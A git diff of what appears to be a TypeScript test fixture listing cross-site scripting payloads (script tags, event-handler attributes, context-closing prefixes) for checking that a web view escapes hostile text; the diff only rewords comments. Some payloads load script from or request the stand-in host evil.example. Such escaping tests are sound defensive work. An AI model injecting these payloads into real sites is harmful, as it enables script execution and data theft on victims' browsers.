@@ -1,7 +1,7 @@
 import { isProving } from '../proof/rounds.ts'
 import { hostileTexts } from '../views/hostile.ts'
 
-/** Each would call `boom`, ask `evil.example` for something, or hide what the page says, if it were more than text. */
+/** Each would call `boom`, request `evil.example`, or hide the page's content, if it were not escaped. */
 const markup = [
   '<script>boom(1)</script>',
   '<script src=//evil.example/x.js></script>',
@@ -21,7 +21,7 @@ const markup = [
   '<div hx-get=//evil.example hx-trigger=load hx-on::load=boom(1)>',
 ] as const
 
-/** What a text may have to close before it can begin something. */
+/** Prefixes that close the context in which a text is inserted. */
 const closings = [
   '',
   '">',
@@ -35,7 +35,7 @@ const closings = [
   ']]>',
 ] as const
 
-/** For the places that are not between tags: attributes, style sheets, addresses, scripts, templates, headers, tables. */
+/** Payloads for contexts other than element content: attributes, styles, URLs, scripts, templates, headers, spreadsheets. */
 const elsewhere = [
   'constructor',
   '" onmouseover="boom(1)" style="position:fixed;inset:0;z-index:9',
@@ -91,7 +91,7 @@ const closed = closings.flatMap((closing) => markup.map((tag) => `${closing}${ta
 
 const all: readonly string[] = [...hostileTexts, ...elsewhere, ...closed]
 
-/** A share that has something of each kind for every test run, all of them for the proof. */
+/** A share with something of each kind in a normal run, all of them in the full proof. */
 export const payloads: readonly string[] = isProving
   ? all
   : [
